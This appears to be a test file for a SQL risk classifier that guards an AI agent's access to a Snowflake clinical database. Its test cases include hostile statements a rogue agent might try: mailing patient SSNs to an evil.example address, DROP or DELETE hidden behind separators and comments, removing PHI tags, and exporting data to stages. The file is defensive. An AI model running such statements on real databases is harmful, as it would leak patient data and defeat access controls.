import { applyRowLimit, classifySql, hasRowLimit, type SqlClass } from '../../policy/sql';

const classesOf = (sql: string): SqlClass[] => classifySql(sql).classes;

describe('classifySql: statement kinds', () => {
  it.each<[string, SqlClass[]]>([
    ['SELECT a FROM t', ['read']],
    ['select a from db.sch.t where x = 1 limit 10', ['read']],
    ['SHOW TABLES', ['read']],
    ['DESCRIBE TABLE patients', ['read']],
    ['USE WAREHOUSE wh', ['read']],
    ['INSERT INTO t VALUES (1)', ['write']],
    ['UPDATE t SET a = 1', ['write']],
    ['DELETE FROM t', ['write']],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['write']],
    ['TRUNCATE TABLE t', ['write']],
    ['CREATE TABLE t (a INT)', ['ddl']],
    ['CREATE OR REPLACE TRANSIENT TABLE t (a INT)', ['ddl']],
    ['ALTER TABLE t ADD COLUMN b INT', ['ddl']],
    ['DROP TABLE x', ['ddl']],
    ['GRANT SELECT ON TABLE t TO ROLE r', ['privilege']],
    ['REVOKE SELECT ON TABLE t FROM ROLE r', ['privilege']],
    ['CREATE USER bob', ['privilege']],
    ['ALTER USER bob SET RSA_PUBLIC_KEY = \'x\'', ['privilege']],
    ['CREATE ROLE r', ['privilege']],
    ['USE ROLE ACCOUNTADMIN', ['privilege']],
    // Tags hold the data classification the PHI catalog reads: changing one is judged like a grant.
    ['ALTER TABLE CLINICAL.PHI.PATIENTS MODIFY COLUMN SSN UNSET TAG CLINICAL.GOVERNANCE.GATEHOUSE_PHI', ['privilege']],
    ["alter table patients alter column ssn set tag gatehouse_phi = 'none'", ['privilege']],
    ["ALTER TABLE patients SET TAG gatehouse_phi = 'none'", ['privilege']],
    ["ALTER VIEW v UNSET TAG t", ['privilege']],
    ["CREATE OR REPLACE TAG CLINICAL.GOVERNANCE.GATEHOUSE_PHI ALLOWED_VALUES 'none'", ['privilege']],
    ["ALTER TAG gatehouse_phi DROP ALLOWED_VALUES 'SSN'", ['privilege']],
    ['DROP TAG CLINICAL.GOVERNANCE.GATEHOUSE_PHI', ['privilege']],
    ['COPY INTO @my_stage FROM patients', ['export']],
    ["COPY INTO 's3://bucket/x' FROM patients", ['export']],
    ['COPY INTO patients FROM @my_stage', ['write', 'export']],
    ['PUT file:///tmp/x.csv @~', ['export']],
    ['GET @my_stage file:///tmp/', ['export']],
    ['CREATE STAGE s URL = \'s3://b\'', ['export']],
    ['ALTER STAGE s SET URL = \'s3://c\'', ['export']],
    ['CREATE EXTERNAL FUNCTION f(a INT) RETURNS INT API_INTEGRATION = i AS \'https://x\'', ['export']],
    ['CREATE EXTERNAL TABLE e LOCATION = @s', ['export']],
    ['CREATE API INTEGRATION i API_PROVIDER = aws_api_gateway', ['export']],
    ['SELECT $1 FROM @my_stage', ['read', 'export']],
    ['WITH x AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT id FROM x)', ['write']],
    ['WITH x AS (SELECT 1 AS a) SELECT a FROM x', ['read']],
    ['SELECT a INTO :v FROM t', ['read', 'write']],
    ['CALL my_proc()', ['write']],
    ["EXECUTE IMMEDIATE 'DROP TABLE x'", ['write']],
    ['BEGIN DROP TABLE x END', ['unparseable']],
    ['BEGIN TRANSACTION', ['read']],
    ['EXPLAIN SELECT * FROM t', ['read']],
    ['SHOW GRANTS TO ROLE r', ['read']],
    ['DECLARE c CURSOR FOR SELECT 1', ['unparseable']],
    ['SELECT 1 /* /* nested? */ DROP TABLE x */', ['read', 'unparseable']],
    ['SELECT * FROM t WHERE id IN (SELECT id FROM u) DELETE FROM t', ['read', 'unparseable']],
    ['SELECT "DROP" FROM t', ['read']],
  ])('%s', (sql, expected) => {
    expect(classesOf(sql)).toEqual(expected);
  });

  it('marks only pure reads as low risk', () => {
    expect(classifySql('SELECT 1').risk).toBe('low');
    expect(classifySql('DELETE FROM t').risk).toBe('high');
    expect(classifySql('SELECT 1; SELECT 2').risk).toBe('high');
    expect(classifySql('SELEKT 1').risk).toBe('high');
  });
});

describe('classifySql: separators, comments and literals', () => {
  it('sees a second statement', () => {
    const r = classifySql('SELECT 1; DROP TABLE x');
    expect(r.classes).toEqual(['read', 'ddl', 'multi_statement']);
    expect(r.statements).toBe(2);
    expect(r.risk).toBe('high');
  });

  it('ignores a trailing semicolon and empty statements', () => {
    expect(classifySql('SELECT 1;').statements).toBe(1);
    expect(classifySql('SELECT 1;;  ;').classes).toEqual(['read']);
  });

  it.each([
    "SELECT 'a;b' AS x",
    "SELECT 'it''s; DROP TABLE x' AS x",
    "SELECT 'back\\'slash; DROP TABLE x' AS x",
    'SELECT 1 /* ; DROP TABLE x */',
    'SELECT 1 -- ; DROP TABLE x',
    'SELECT 1 // ; DROP TABLE x',
    'SELECT "weird;name" FROM t',
    'SELECT $$ ; DROP TABLE x $$',
  ])('one statement: %s', (sql) => {
    const r = classifySql(sql);
    expect(r.statements).toBe(1);
    expect(r.classes).not.toContain('ddl');
    expect(r.classes).not.toContain('multi_statement');
  });

  it('finds statements hidden after comments', () => {
    expect(classesOf('/* harmless */ DROP TABLE x')).toEqual(['ddl']);
    expect(classesOf('-- comment\nDELETE FROM t')).toEqual(['write']);
    expect(classesOf('SELECT 1 /* x */; /* y */ GRANT ALL ON t TO ROLE r')).toContain('privilege');
    expect(classesOf('SELECT 1;--\nDROP TABLE x')).toContain('multi_statement');
  });

  it('reads Snowflake\'s pipe operator ->> as a statement separator: a write chained after SHOW is a write', () => {
    expect(classesOf('SHOW TABLES ->> DELETE FROM PATIENTS')).toEqual(['read', 'write', 'multi_statement']);
    expect(classesOf('DESCRIBE TABLE t ->> GRANT ROLE ACCOUNTADMIN TO USER x')).toEqual(['read', 'privilege', 'multi_statement']);
    expect(classifySql('SELECT 1 ->> SELECT * FROM $1').statements).toBe(2);
    expect(classifySql("SELECT '->>' AS arrow").statements).toBe(1);
  });

  it('is case- and whitespace-insensitive', () => {
    expect(classesOf('dElEtE\n\tFROM t')).toEqual(['write']);
    expect(classesOf('  \n select 1')).toEqual(['read']);
  });

  it('does not treat unicode look-alikes as keywords', () => {
    // Cyrillic Е in DЕLETE: not a keyword, so unknown → unparseable, never read.
    expect(classesOf('D\u0415LETE FROM t')).toEqual(['unparseable']);
    expect(classesOf('SELECT \u00e9t\u00e9 FROM t').includes('write')).toBe(false);
  });

  it('fails closed on unterminated literals and comments', () => {
    for (const sql of ["SELECT 'abc", 'SELECT 1 /* open', 'SELECT "x', 'SELECT $$ x']) {
      const r = classifySql(sql);
      expect(r.classes).toEqual(['unparseable']);
      expect(r.risk).toBe('high');
      expect(r.reason).toMatch(/unterminated/);
    }
  });

  it('fails closed on empty and unknown input', () => {
    expect(classesOf('')).toEqual(['unparseable']);
    expect(classesOf('   -- only a comment')).toEqual(['unparseable']);
    expect(classesOf('FROBNICATE t')).toEqual(['unparseable']);
    expect(classesOf(undefined as unknown as string)).toEqual(['unparseable']);
  });

  it('cross-checks SELECTs with the SQL parser', () => {
    expect(classesOf('SELECT FROM WHERE')).toContain('unparseable');
  });

  it('reads nested subqueries as reads', () => {
    expect(classesOf('SELECT * FROM (SELECT * FROM (SELECT id FROM t) a) b')).toEqual(['read']);
    expect(classesOf('(SELECT 1)')).toContain('read');
  });
});

describe('classifySql: tables', () => {
  it('lists the tables', () => {
    expect(classifySql('SELECT * FROM clinic.patients p JOIN clinic.visits v ON p.id = v.pid').tables).toEqual(
      expect.arrayContaining(['CLINIC.PATIENTS', 'CLINIC.VISITS']),
    );
    expect(classifySql('DELETE FROM notes').tables).toContain('NOTES');
    expect(classifySql('SELECT * FROM clinic.patients p JOIN clinic.visits v ON p.id = v.pid').tables).toHaveLength(2);
    expect(classifySql('SELECT a FROM (SELECT b FROM "Mixed"."T") x').tables).toEqual(['Mixed.T']);
  });
});

describe('classifySql: large inputs', () => {
  /** CPU microseconds of `times` runs in one batch, best of three (one busy moment cannot decide). */
  function cpuMicros(run: () => void, times: number): number {
    let best = Infinity;
    for (let attempt = 0; attempt < 3; attempt++) {
      const start = process.cpuUsage();
      for (let r = 0; r < times; r++) run();
      const used = process.cpuUsage(start);
      best = Math.min(best, used.user + used.system);
    }
    return Math.max(best, 1);
  }

  /**
   * Equal amounts of work, no clock bound: `large` once against `small` (1/8 of it) eight times.
   * A linear classifier measures about 1, a quadratic one about 8; the bound of 4 leaves room for
   * garbage collection on a loaded machine and still catches a quadratic path.
   */
  function workRatio(small: string, large: string, check: (sql: string) => void): number {
    check(small); // warm up the JIT
    let ratio = Infinity;
    for (let attempt = 0; attempt < 3 && ratio >= 4; attempt++) {
      ratio = Math.min(ratio, cpuMicros(() => check(large), 1) / cpuMicros(() => check(small), 8));
    }
    return ratio;
  }
  const columns = (n: number) => `SELECT ${Array.from({ length: n }, (_, i) => `c${i}`).join(', ')} FROM t`;

  it('a huge statement costs in proportion to its size', () => {
    expect(classifySql(columns(20_000)).statements).toBe(1);
    expect(workRatio(columns(2_500), columns(20_000), (sql) => expect(classifySql(sql).statements).toBe(1))).toBeLessThan(4);
  });

  it('many statements, deep nesting and long literals cost in proportion to their size', () => {
    expect(classifySql('SELECT 1;'.repeat(50_000)).classes).toContain('multi_statement');
    expect(classifySql(`SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}`).risk).toBe('high');
    expect(classifySql("SELECT '" + ';'.repeat(200_000) + "'").statements).toBe(1);
    expect(workRatio('SELECT 1;'.repeat(6_250), 'SELECT 1;'.repeat(50_000), (sql) => expect(classifySql(sql).classes).toContain('multi_statement'))).toBeLessThan(4);
    const nested = (n: number) => `SELECT ${'('.repeat(n)}1${')'.repeat(n)}`;
    expect(workRatio(nested(625), nested(5000), (sql) => expect(classifySql(sql).risk).toBe('high'))).toBeLessThan(4);
    const literal = (n: number) => "SELECT '" + ';'.repeat(n) + "'";
    expect(workRatio(literal(25_000), literal(200_000), (sql) => expect(classifySql(sql).statements).toBe(1))).toBeLessThan(4);
  });

  it('refuses oversized text', () => {
    expect(classifySql('x'.repeat(1_000_001)).classes).toEqual(['unparseable']);
  });
});

describe('row limits', () => {
  it('tells whether a SELECT has a top-level limit', () => {
    expect(hasRowLimit('SELECT * FROM t LIMIT 10')).toBe(true);
    expect(hasRowLimit('SELECT TOP 5 * FROM t')).toBe(true);
    expect(hasRowLimit('SELECT * FROM t FETCH FIRST 3 ROWS ONLY')).toBe(true);
    expect(hasRowLimit('SELECT * FROM (SELECT * FROM t LIMIT 1)')).toBe(false);
    expect(hasRowLimit("SELECT 'LIMIT 5'")).toBe(false);
  });

  it('applies a limit', () => {
    expect(applyRowLimit([1, 2, 3], 2)).toEqual({ rows: [1, 2], truncated: true });
    expect(applyRowLimit([1], 2)).toEqual({ rows: [1], truncated: false });
    expect(() => applyRowLimit([1], -1)).toThrow(RangeError);
  });
});

describe('classifySql: what a hostile agent tries on real Snowflake', () => {
  it.each<[string, SqlClass[]]>([
    // SYSTEM$ functions act (cancel queries, end sessions, send mail): held unless allow-listed.
    ["SELECT SYSTEM$CANCEL_ALL_QUERIES(1234)", ['read', 'write']],
    ["select system$abort_session(42)", ['read', 'write']],
    ["SELECT SYSTEM$SEND_EMAIL('int', 'x@evil.example', 's', (SELECT LISTAGG(ssn) FROM patients))", ['read', 'write']],
    // EXPLAIN of anything but a plain SELECT is judged as what it explains, and held.
    ['EXPLAIN ANALYZE DELETE FROM patients', ['write']],
    ['EXPLAIN USING TEXT UPDATE patients SET city = 1', ['write']],
    ['EXPLAIN USING JSON SELECT * FROM t', ['read']],
    ['EXPLAIN DROP TABLE patients', ['write', 'ddl']],
    // Any stage reference in any statement is export.
    ['LIST @~', ['read', 'export']],
    ['LS @%patients', ['read', 'export']],
    ['SELECT $1 FROM @%PATIENTS', ['read', 'export']],
    ['SELECT a FROM t WHERE b IN (SELECT $1 FROM @~/x.csv)', ['read', 'export']],
    ['REMOVE @my_stage/x.csv', ['export', 'unparseable']],
  ])('%s -> %j', (sql, expected) => {
    expect(classesOf(sql)).toEqual(expected);
  });

  it('the allow-list of SYSTEM$ functions is per call (per target) and case-insensitive', () => {
    expect(classifySql('SELECT SYSTEM$TYPEOF(mrn) FROM patients', { systemFunctions: ['SYSTEM$TYPEOF'] }).classes).toEqual(['read']);
    expect(classifySql('SELECT SYSTEM$TYPEOF(1)', { systemFunctions: [] }).classes).toEqual(['read', 'write']);
    expect(classifySql('SELECT SYSTEM$CLUSTERING_INFORMATION(\'t\')', { systemFunctions: ['system$clustering_information'] }).classes).toEqual(['read']);
    expect(classifySql('SELECT SYSTEM$ABORT_SESSION(1)').reason).toContain('SYSTEM$ABORT_SESSION: a system function whose effect the gateway cannot bound');
  });

  it('a string or an email address is not a stage', () => {
    expect(classesOf("SELECT 'ship @~ now', email FROM t WHERE email = 'a@b.org'")).toEqual(['read']);
  });
});

describe('classifySql: reading tags', () => {
  it('SYSTEM$GET_TAG is held like any SYSTEM$ function unless the target allow-lists it (it only reads)', () => {
    const sql = "SELECT SYSTEM$GET_TAG('GATEHOUSE_PHI', 'PATIENTS.SSN', 'COLUMN')";
    expect(classesOf(sql)).toEqual(['read', 'write']);
    expect(classifySql(sql, { systemFunctions: ['SYSTEM$GET_TAG'] }).classes).toEqual(['read']);
  });
});

describe('classifySql: ALTER SESSION cannot lift the limits set on the issued user', () => {
  test.each([
    "ALTER SESSION SET TIMEZONE = 'UTC'",
    "alter session set date_output_format = 'YYYY-MM-DD', week_start = 1",
    'ALTER SESSION UNSET TIMEZONE',
  ])('display parameters are session housekeeping: %s', (sql) => {
    expect(classifySql(sql).classes).toEqual(['read']);
  });

  test.each([
    'ALTER SESSION SET STATEMENT_TIMEOUT_IN_SECONDS = 0',
    'alter session set statement_timeout_in_seconds=172800',
    "ALTER SESSION SET TIMEZONE = 'UTC', STATEMENT_TIMEOUT_IN_SECONDS = 0",
    'ALTER SESSION UNSET STATEMENT_TIMEOUT_IN_SECONDS',
    `ALTER SESSION SET TIMEZONE = 'UTC', "STATEMENT_TIMEOUT_IN_SECONDS" = 0`,
    `ALTER SESSION SET "TIMEZONE" = 'UTC'`,
    'ALTER SESSION SET ROWS_PER_RESULTSET = 0',
    "ALTER SESSION SET QUERY_TAG = 'gatehouse:someone-else'",
    'ALTER SESSION SET QUOTED_IDENTIFIERS_IGNORE_CASE = TRUE',
    'ALTER SESSION /* housekeeping */ SET STATEMENT_QUEUED_TIMEOUT_IN_SECONDS = 0',
    'ALTER SESSION',
  ])('anything else is judged like a grant (denied by default): %s', (sql) => {
    const result = classifySql(sql);
    expect(result.classes).toContain('privilege');
    expect(result.classes).not.toContain('read');
    expect(result.risk).toBe('high');
  });
});

describe('classifySql: nesting', () => {
  const nested = (n: number) => `SELECT ${'('.repeat(n)}1${')'.repeat(n)}`;
  test('up to 200 levels is read as what it is; deeper is refused whatever stack the parser would have', () => {
    expect(classifySql(nested(50)).classes).toEqual(['read']);
    expect(classifySql(nested(200)).reason ?? '').not.toContain('nested deeper');
    for (const n of [201, 625, 5000]) {
      const result = classifySql(nested(n));
      expect(result).toMatchObject({ classes: ['unparseable'], risk: 'high' });
      expect(result.reason).toBe('parentheses nested deeper than 200 levels');
    }
  });
});
